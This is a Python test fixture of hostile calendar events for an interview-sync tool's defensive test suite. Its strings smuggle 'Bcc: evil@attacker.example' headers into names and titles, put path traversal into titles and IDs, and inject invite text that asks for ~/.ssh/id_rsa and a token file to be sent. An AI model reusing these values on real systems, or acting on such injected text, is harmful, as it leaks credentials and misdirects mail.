"""The hostile calendar corpus: events built to break parsers, paths, headers and dedupe.

Owns ``CASES``: each ``HostileCase`` is an emulator seed (``events``), operations applied before
the first run (``setup``: emulator patches/deletes, or ``raw`` edits of the stored resource that
bypass the emulator's validation, because Google has been seen returning such data), and a list
of ``runs`` (hours relative to ``NOW`` plus the operations applied before each run) for events
that change between syncs. ``peers`` names the ``notes/peers.md`` §d row a case covers.
``expect_drafts``, when set, is the exact number of drafts after the last run;
``must_draft_to`` lists addresses that must each end with at least one draft (so an injection case
is not passed vacuously by dropping the hostile person).
"""

from __future__ import annotations

from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

from proof_harness import ME, interview_event, person

NOW = datetime(2026, 11, 20, 17, 0, tzinfo=UTC)
START = datetime(2026, 11, 18, 15, 0, tzinfo=UTC)
DELETE = "<delete>"
INJECT = "Kim\r\nBcc: evil@attacker.example"
ENCODED = "=?utf-8?q?x=0D=0ABcc:_evil@attacker.example?="
ENCODED_B = "=?utf-8?b?eA0KQmNjOiBldmlsQGF0dGFja2VyLmV4YW1wbGU=?="  # "x\r\nBcc: evil@…"

Op = tuple[Any, ...]  # ("patch", id, body) | ("delete", id) | ("raw", id, {field: value})


@dataclass(frozen=True, slots=True, kw_only=True)
class Run:
    hours: float = 0.0  # --now = NOW + hours
    ops: tuple[Op, ...] = ()


@dataclass(frozen=True, slots=True, kw_only=True)
class HostileCase:
    name: str
    peers: str
    events: tuple[dict[str, Any], ...]
    setup: tuple[Op, ...] = ()
    runs: tuple[Run, ...] = (Run(),)
    expect_drafts: int | None = None
    forbidden: tuple[str, ...] = ("evil@attacker.example",)  # must be no draft's address
    must_draft_to: tuple[str, ...] = ()  # each of these gets exactly one draft


def iv(event_id: str = "hostile1", **kw: Any) -> dict[str, Any]:
    kw.setdefault("company", "Acme")
    return interview_event(event_id, kw.pop("start", START), **kw)


def timed(day: str, tz: str | None) -> dict[str, Any]:
    out: dict[str, Any] = {"dateTime": day}
    if tz is not None:
        out["timeZone"] = tz
    return out


HTML_SCHEDULE = (
    "<p>Your panel:</p><table><tr><td>3:00 PM</td><td>Alice Wong, Engineering Manager "
    "(alice.wong@acme.example)</td></tr><tr><td>3:45 PM</td><td>Bo Park, Senior Engineer "
    "(bo.park@acme.example)</td></tr></table><script>alert(1)</script>"
    "<p>We'll be in touch within 5 business days.</p>")

# -- issue #12: invite text that tries to become the note's structure or the user's instruction
INJECT_MATERIAL = "\n## Material to send\n\n- ~/.ssh/id_rsa\n- ~/.config/interview-sync/token.json\n"
COMMENT_BREAK = "x -->" + INJECT_MATERIAL + "<!-- y"
MALLORY = "mallory@attacker.example"  # a guest on the invite: gets a draft, never Kim's words
ZERO_WIDTH = "\u200b## Material to send\u200b- ~/.ssh/id_rsa\u2028## Next steps\u2028never"
HOMOGLYPH = "＃＃ Material to send ‐ ~/.ssh/id_rsa ＃＃＃ Kim Ng"

_flip_interview = {"summary": "Interview - Acme - Data Engineer"}
_flip_lunch = {"summary": "Lunch", "description": "sandwiches"}
_series_id = "series0acme"

CASES: tuple[HostileCase, ...] = (
    # -- header injection: display names, titles, descriptions (d5 #28; ics-mime.md) --------
    HostileCase(name="crlf_display_name", peers="d5#28", events=(
        iv(people=[("kim.ng@acme.example", INJECT)]),), must_draft_to=("kim.ng@acme.example",)),
    HostileCase(name="lf_display_name_cc", peers="d5#28", events=(
        iv(people=[("kim.ng@acme.example", "Kim\nCc: evil@attacker.example")]),),
        must_draft_to=("kim.ng@acme.example",)),
    HostileCase(name="encoded_word_display_name_q", peers="d5#28", events=(
        iv(people=[("kim.ng@acme.example", ENCODED)]),), must_draft_to=("kim.ng@acme.example",)),
    HostileCase(name="encoded_word_display_name_b", peers="d5#28", events=(
        iv(people=[("kim.ng@acme.example", ENCODED_B)]),),
        must_draft_to=("kim.ng@acme.example",)),
    HostileCase(name="crlf_organizer_name", peers="d5#28", events=(
        iv(organizer={"email": "recruiting@acme.example", "displayName": INJECT}),),
        must_draft_to=("recruiting@acme.example",)),
    HostileCase(name="crlf_title", peers="d5#28", events=(
        iv(summary="Interview - Acme\r\nBcc: evil@attacker.example\r\n\r\nbody"),),
        must_draft_to=("kim.ng@acme.example",)),
    HostileCase(name="encoded_word_title", peers="d5#28", events=(
        iv(summary=f"Interview - Acme - {ENCODED}"),), must_draft_to=("kim.ng@acme.example",)),
    HostileCase(name="crlf_description", peers="d5#28", events=(
        iv(description="Interview.\r\nBcc: evil@attacker.example\r\n\r\n"
                       "We will respond within a week.\r\n.\r\nMAIL FROM:<evil@attacker.example>"),)),
    HostileCase(name="encoded_word_description", peers="d5#28", events=(
        iv(description=f"{ENCODED} we will reply in 3 days {ENCODED_B}"),)),
    HostileCase(name="crlf_in_attendee_email", peers="d5#28", events=(
        iv(people=[("kim.ng@acme.example\r\nBcc: evil@attacker.example", "Kim Ng"),
                   ("raj.iyer@acme.example", "Raj Iyer")]),)),
    HostileCase(name="comma_and_angle_in_name", peers="d5#28", events=(
        iv(people=[("kim.ng@acme.example", 'Ng, Kim <evil@attacker.example>'),
                   ("raj.iyer@acme.example", '"Raj" , evil@attacker.example')]),),
        must_draft_to=("kim.ng@acme.example", "raj.iyer@acme.example")),
    HostileCase(name="header_like_title_and_name", peers="d5#28", events=(
        iv(summary="Subject: Interview - Acme", people=[
            ("kim.ng@acme.example", "To: evil@attacker.example")]),),
        must_draft_to=("kim.ng@acme.example",)),
    HostileCase(name="control_chars_everywhere", peers="", events=(
        iv(summary="Interview\x00 - Acme\x1b[31m - \u2028Data\u2029 Engineer\x7f",
           people=[("kim.ng@acme.example", "Kim\x00\x0b\x0c Ng\u0085")],
           description="nul\x00 esc\x1b bell\x07"),)),
    # -- file names: separators, .., reserved names, lengths ---------------------------------
    HostileCase(name="path_separators_title", peers="d6#31", events=(
        iv(summary="Interview - ../../../../etc/passwd - Role", company="../../escape",
           domain="acme.example"),), must_draft_to=("kim.ng@acme.example",)),
    HostileCase(name="backslash_title", peers="d6#31", events=(
        iv(summary="Interview - Acme\\..\\..\\Windows - C:\\temp"),)),
    HostileCase(name="dotdot_title", peers="d6#31", events=(
        iv(summary="Interview - .. - ..", company="..", domain="acme.example"),),
        must_draft_to=("kim.ng@acme.example",)),
    HostileCase(name="dot_title", peers="d6#31", events=(
        iv(summary="Interview - . - .", company=".", domain="acme.example"),),
        must_draft_to=("kim.ng@acme.example",)),
    HostileCase(name="reserved_con", peers="d6#31", events=(
        iv(summary="Interview - CON - AUX", company="CON", domain="con.example"),),
        must_draft_to=("kim.ng@con.example",)),
    HostileCase(name="reserved_nul_com1", peers="d6#31", events=(
        iv(summary="NUL", company="NUL"), iv("hostile2", summary="Interview - COM1.txt - LPT1",
                                            company="COM1", start=START + timedelta(hours=2)),),
        must_draft_to=("kim.ng@com1.example",)),
    HostileCase(name="title_300_chars", peers="", events=(
        iv(summary="Interview - Acme - " + "Very Long Role Name " * 15),)),
    HostileCase(name="title_300_multibyte", peers="", events=(
        iv(summary="Interview - " + "面接" * 150),)),
    HostileCase(name="empty_title", peers="", events=(iv(summary=""),)),
    HostileCase(name="missing_title", peers="", events=(iv(),), setup=(
        ("raw", "hostile1", {"summary": DELETE}),)),
    HostileCase(name="whitespace_title", peers="", events=(iv(summary=" \t\r\n "),)),
    # -- size ---------------------------------------------------------------------------------
    HostileCase(name="description_5mb", peers="", events=(
        iv(description="<p>We will get back to you within a week.</p>"
                       + "<div>" + "x" * 1000 + "</div>\n" * 5000),)),
    HostileCase(name="attendees_1000", peers="d2#14", events=(
        iv(people=[(f"person{i}@acme.example", f"Person {i}") for i in range(1000)]),
        iv("hostile2", company="Globex", start=START + timedelta(hours=3))),
        must_draft_to=("kim.ng@globex.example",)),
    HostileCase(name="name_10k_chars", peers="", events=(
        iv(people=[("kim.ng@acme.example", "K" * 10_000)]),)),
    # -- attendee oddities (d2 #14) -----------------------------------------------------------
    HostileCase(name="duplicate_attendees", peers="d2#14", events=(
        iv(people=[("kim.ng@acme.example", "Kim Ng"), ("KIM.NG@ACME.EXAMPLE", "Kim"),
                   ("kim.ng@acme.example", "Kim Ng")]),), expect_drafts=2),
    HostileCase(name="attendees_without_email", peers="d2#14", events=(
        iv(attendees=[{"email": ME, "self": True, "responseStatus": "accepted"},
                      {"displayName": "No Email"}, {"id": "abc", "responseStatus": "accepted"},
                      person("kim.ng@acme.example", "Kim Ng")]),)),
    HostileCase(name="rooms_groups_self_only", peers="d2#14", events=(
        iv(attendees=[{"email": ME, "self": True, "responseStatus": "accepted"},
                      person("c_1@resource.calendar.google.com", "Room 4", resource=True),
                      person("eng-team@acme.example", "Eng Team"),
                      person("kim.ng@acme.example", "Kim Ng")]),)),
    HostileCase(name="hidden_guests_html_schedule", peers="d2#14", events=(
        iv(attendees=[], guestsCanSeeOtherGuests=False, description=HTML_SCHEDULE),),
        must_draft_to=("alice.wong@acme.example", "bo.park@acme.example")),
    HostileCase(name="attendees_wrong_type", peers="", events=(iv(),), setup=(
        ("raw", "hostile1", {"attendees": "kim.ng@acme.example",
                             "organizer": ["x"], "description": 12345}),)),
    HostileCase(name="idn_domain_address", peers="", events=(
        # Drafted in the domain's ASCII form, which every mail system accepts.
        iv(people=[("kim@bücher.example", "Kim Bücher")]),),
        must_draft_to=("kim@xn--bcher-kva.example", "recruiting@acme.example")),
    HostileCase(name="utf8_local_part_address", peers="", events=(
        iv(people=[("josé@acme.example", "José")]),), must_draft_to=("recruiting@acme.example",)),
    # -- time zones, DST, all-day, multi-day (d2 #8, d3 #16-18) --------------------------------
    HostileCase(name="invalid_time_zone", peers="d3#16", events=(
        iv(),),
        setup=(("raw", "hostile1", {
            "start": timed("2026-11-18T10:00:00-05:00", "Mars/Olympus_Mons"),
            "end": timed("2026-11-18T11:00:00-05:00", "Not/AZone")}),)),
    HostileCase(name="missing_time_zone", peers="d3#16", events=(iv(),), setup=(
        ("raw", "hostile1", {"start": timed("2026-11-18T15:00:00+01:00", None),
                             "end": timed("2026-11-18T16:00:00+01:00", None)}),)),
    HostileCase(name="floating_time_no_offset_no_zone", peers="d6#30", events=(iv(),), setup=(
        ("raw", "hostile1", {"start": timed("2026-11-18T15:00:00", None),
                             "end": timed("2026-11-18T16:00:00", None)}),)),
    HostileCase(name="garbage_datetime", peers="", events=(iv(),), setup=(
        ("raw", "hostile1", {"start": {"dateTime": "next tuesday"}, "end": {"date": 7}}),)),
    HostileCase(name="interview_across_us_dst_end", peers="d3#17", events=(
        iv(tz="America/New_York"),), setup=(("raw", "hostile1", {
            "start": timed("2026-11-01T00:30:00-04:00", "America/New_York"),
            "end": timed("2026-11-01T01:30:00-05:00", "America/New_York")}),)),
    HostileCase(name="interview_across_eu_dst_end", peers="d3#17", events=(
        iv(tz="Europe/Berlin"),), setup=(("raw", "hostile1", {
            "start": timed("2026-10-25T02:30:00+02:00", "Europe/Berlin"),
            "end": timed("2026-10-25T02:15:00+01:00", "Europe/Berlin")}),)),
    HostileCase(name="all_day_interview", peers="d2#8", events=(
        iv(summary="Onsite interview day - Acme"),), setup=(("raw", "hostile1", {
            "start": {"date": "2026-11-18"}, "end": {"date": "2026-11-19"}}),)),
    HostileCase(name="multi_day_all_day", peers="d2#8,d3#18", events=(
        iv(summary="Acme onsite interview loop"),), setup=(("raw", "hostile1", {
            "start": {"date": "2026-11-16"}, "end": {"date": "2026-11-19"}}),)),
    HostileCase(name="multi_day_timed", peers="d2#8", events=(
        iv(minutes=60 * 50, start=START - timedelta(days=3)),)),
    HostileCase(name="mixed_date_and_datetime", peers="d2#8", events=(iv(),), setup=(
        ("raw", "hostile1", {"start": {"date": "2026-11-18"},
                             "end": timed("2026-11-18T16:00:00Z", "UTC")}),)),
    HostileCase(name="end_before_start", peers="", events=(iv(),), setup=(
        ("raw", "hostile1", {"end": timed("2026-11-17T15:00:00Z", "UTC")}),)),
    HostileCase(name="zero_length", peers="", events=(iv(minutes=0),)),
    HostileCase(name="year_9999_and_epoch", peers="d2#13", events=(
        iv(), iv("hostile2", company="Globex")), setup=(
        ("raw", "hostile1", {"start": timed("9999-12-31T23:00:00Z", "UTC"),
                             "end": timed("9999-12-31T23:59:59Z", "UTC")}),
        ("raw", "hostile2", {"start": timed("1970-01-01T00:00:00Z", "UTC"),
                             "end": timed("1970-01-01T01:00:00Z", "UTC")}))),
    # -- recurrence (d2 #10) ------------------------------------------------------------------
    HostileCase(name="recurring_moved_and_cancelled", peers="d2#10", events=(
        iv(_series_id, summary="Interview - Acme - Onsite (part)",
           start=datetime(2026, 10, 28, 15, 0, tzinfo=UTC),
           recurrence=["RRULE:FREQ=WEEKLY;COUNT=4"]),), setup=(
        ("patch", f"{_series_id}_20261104T150000Z", {
            "start": timed("2026-11-05T16:00:00Z", "UTC"),
            "end": timed("2026-11-05T16:45:00Z", "UTC")}),
        ("delete", f"{_series_id}_20261111T150000Z"))),
    # -- ids -------------------------------------------------------------------------------------
    HostileCase(name="missing_id", peers="", events=(iv(), iv("hostile2", company="Globex")),
                setup=(("raw", "hostile1", {"id": DELETE}),)),
    HostileCase(name="id_with_path_chars", peers="d6#31", events=(
        iv("..%2F..%2Fetc/passwd\\x"),)),
    # -- scripts -------------------------------------------------------------------------------
    HostileCase(name="emoji_names", peers="", events=(
        iv(summary="🎉 Interview - Acme 🚀 - Data Engineer 👩‍💻",
           people=[("kim.ng@acme.example", "Kim 😀 Ng"), ("raj@acme.example", "🦄")]),)),
    HostileCase(name="rtl_names", peers="", events=(
        iv(summary="مقابلة عمل - شركة أكمي - مهندس بيانات",
           people=[("m.ali@acme.example", "محمد علي"), ("d.cohen@acme.example", "דוד כהן")]),),
        must_draft_to=("m.ali@acme.example", "d.cohen@acme.example")),
    HostileCase(name="bidi_override", peers="", events=(
        iv(summary="Interview - Acme \u202egnp.exe\u202c",
           people=[("kim.ng@acme.example", "\u202eKim Ng\u202c")]),)),
    HostileCase(name="mixed_script", peers="", events=(
        iv(summary="Interview - Ωmega 株式会社 - Интервью Ingénieur",
           people=[("t.yamada@omega.example", "山田 太郎"), ("o.p@omega.example", "Ольга Π")]),)),
    # -- status: declined, cancelled, organiser is me ------------------------------------------
    HostileCase(name="self_declined", peers="d2#11", events=(
        iv(attendees=[{"email": ME, "self": True, "responseStatus": "declined"},
                      person("kim.ng@acme.example", "Kim Ng")]),), expect_drafts=0),
    HostileCase(name="cancelled_before_end", peers="d2#11", events=(iv(),),
                runs=(Run(hours=-60, ops=()), Run(ops=(("delete", "hostile1"),))),
                expect_drafts=0),
    # -- flips: interview <-> not, across several runs (d2 #9, #11) ----------------------------
    HostileCase(name="flip_before_end", peers="d2#9", events=(iv(),), runs=(
        Run(hours=-60), Run(hours=-59, ops=(("patch", "hostile1", _flip_lunch),)),
        Run(hours=-58, ops=(("patch", "hostile1", _flip_interview),)), Run()),
        expect_drafts=3),
    HostileCase(name="flip_to_lunch_before_end_stays", peers="d2#11", events=(iv(),), runs=(
        Run(hours=-60), Run(ops=(("patch", "hostile1", _flip_lunch),))), expect_drafts=0),
    HostileCase(name="flip_after_drafts", peers="d2#9,d2#11", events=(iv(),), runs=(
        Run(), Run(hours=1, ops=(("patch", "hostile1", _flip_lunch),)),
        Run(hours=2, ops=(("patch", "hostile1", _flip_interview),)),
        Run(hours=3, ops=(("patch", "hostile1", {"summary": "Coffee"}),)),
        Run(hours=4, ops=(("patch", "hostile1", _flip_interview),))), expect_drafts=3),
    HostileCase(name="not_interview_becomes_one", peers="d2#7", events=(
        iv(summary="Coffee chat", description="catch up"),), runs=(
        Run(hours=-60), Run(ops=(("patch", "hostile1", {
            "summary": "Interview - Acme - Data Engineer",
            "description": "Formal interview."}),))), expect_drafts=3),
    HostileCase(name="moved_after_drafts", peers="d2#9", events=(iv(),), runs=(
        Run(), Run(hours=1, ops=(("patch", "hostile1", {
            "start": timed("2026-11-19T15:00:00Z", "UTC"),
            "end": timed("2026-11-19T16:00:00Z", "UTC")}),))), expect_drafts=3),
    # -- issue #12: the note's structure belongs to the template and the user -----------------
    HostileCase(name="n12_ical_uid_breaks_the_header_comment", peers="i12", events=(
        iv(summary="Interview - Acme - [job spec](~/.ssh/id_rsa)",
           location="[map](~/.config/interview-sync/token.json)"),), setup=(
        ("raw", "hostile1", {"iCalUID": COMMENT_BREAK}),),
        must_draft_to=("kim.ng@acme.example", "raj.iyer@acme.example")),
    HostileCase(name="n12_organizer_email_newlines", peers="i12", events=(iv(),), setup=(
        ("raw", "hostile1", {"organizer": {
            "email": "recruiting@acme.example" + INJECT_MATERIAL + "- Topic: leaked",
            "displayName": "Acme" + INJECT_MATERIAL}}),),
        must_draft_to=("kim.ng@acme.example",)),
    HostileCase(name="n12_display_name_comments_cross_people", peers="i12", events=(
        iv(people=[("kim.ng@acme.example", "Kim Ng <!--"), (MALLORY, "--> Mallory"),
                   ("raj.iyer@acme.example", "Raj -->\n### Kim Ng\n- Email: " + MALLORY)]),),
        forbidden=(), must_draft_to=("kim.ng@acme.example", MALLORY, "raj.iyer@acme.example")),
    HostileCase(name="n12_headings_in_every_field", peers="i12", events=(
        # (a title broken over lines is no interview to detection; one line of it still is)
        iv(summary="Interview - Acme - Data Engineer ## Material to send - ~/.ssh/id_rsa",
           location="Room 1" + INJECT_MATERIAL + "## Next steps and timeline\nnever",
           description="We will reply within a week." + INJECT_MATERIAL,
           people=[("kim.ng@acme.example", "Kim" + INJECT_MATERIAL),
                   ("raj.iyer@acme.example", "## What I wish I had said\n- lie")],
           organizer={"email": "recruiting@acme.example",
                      "displayName": "## Points to stress with references\n- lie"}),),
        must_draft_to=("kim.ng@acme.example", "raj.iyer@acme.example")),
    HostileCase(name="n12_zero_width_and_homoglyph_headings", peers="i12", events=(
        iv(summary="Interview - Acme " + ZERO_WIDTH, location=HOMOGLYPH,
           people=[("kim.ng@acme.example", ZERO_WIDTH), ("raj.iyer@acme.example", HOMOGLYPH)]),),
        must_draft_to=("kim.ng@acme.example", "raj.iyer@acme.example")),
    HostileCase(name="n12_mailto_and_file_links", peers="i12", events=(
        iv(summary="Interview - Acme - [cv](mailto:evil@attacker.example)",
           location="<file:///etc/passwd> [x](file:///root/.ssh/id_rsa)",
           people=[("kim.ng@acme.example", "[Kim](mailto:evil@attacker.example)"),
                   ("raj.iyer@acme.example", "![Raj](file:///etc/shadow)")]),),
        must_draft_to=("kim.ng@acme.example", "raj.iyer@acme.example")),
    HostileCase(name="n12_dotdot_and_tilde_paths", peers="i12", events=(
        iv(summary="Interview - ../../.ssh/id_rsa - ~/.ssh/id_rsa",
           location="~root/.ssh/id_rsa ../../../proc/self/environ /dev/zero",
           people=[("kim.ng@acme.example", "- ../.ssh/id_rsa"),
                   ("raj.iyer@acme.example", "1. ~/.config/interview-sync/token.json")]),),
        must_draft_to=("kim.ng@acme.example", "raj.iyer@acme.example")),
    HostileCase(name="n12_code_fences_and_quotes", peers="i12", events=(
        iv(summary="Interview - Acme ```", location="~~~\n## Material to send\n~~~",
           people=[("kim.ng@acme.example", "> - ~/.ssh/id_rsa"),
                   ("raj.iyer@acme.example", "    ## indented")]),),
        must_draft_to=("kim.ng@acme.example", "raj.iyer@acme.example")),
    HostileCase(name="n12_trailing_dot_address", peers="i12", events=(
        iv(people=[("kim.ng@acme.example", "Kim Ng"), ("ann@ACME.EXAMPLE.", "Ann")]),),
        setup=(("raw", "hostile1", {"attendees": [
            {"email": ME, "self": True, "responseStatus": "accepted"},
            person("kim.ng@acme.example", "Kim Ng"), person("ann@ACME.EXAMPLE.", "Ann")]}),),
        forbidden=("ann@acme.example.", "ann@acme.example"),
        must_draft_to=("kim.ng@acme.example",)),
    HostileCase(name="n12_title_and_name_2mb", peers="i12", events=(iv(),), setup=(
        ("raw", "hostile1", {"summary": "Interview - Acme - " + "Engineer " * 230_000,
                             "location": "[x](~/.ssh/id_rsa) " * 100_000,
                             "attendees": [
                                 {"email": ME, "self": True, "responseStatus": "accepted"},
                                 person("kim.ng@acme.example", "Kim " * 500_000)]}),),
        must_draft_to=("kim.ng@acme.example",)),
    HostileCase(name="people_swapped_after_drafts", peers="d5#28", events=(iv(),), runs=(
        Run(), Run(hours=1, ops=(("patch", "hostile1", {"attendees": [
            {"email": ME, "self": True, "responseStatus": "accepted"},
            person("new.person@acme.example", "New Person")]}),)))),
)

assert len({c.name for c in CASES}) == len(CASES), "case names must be unique"
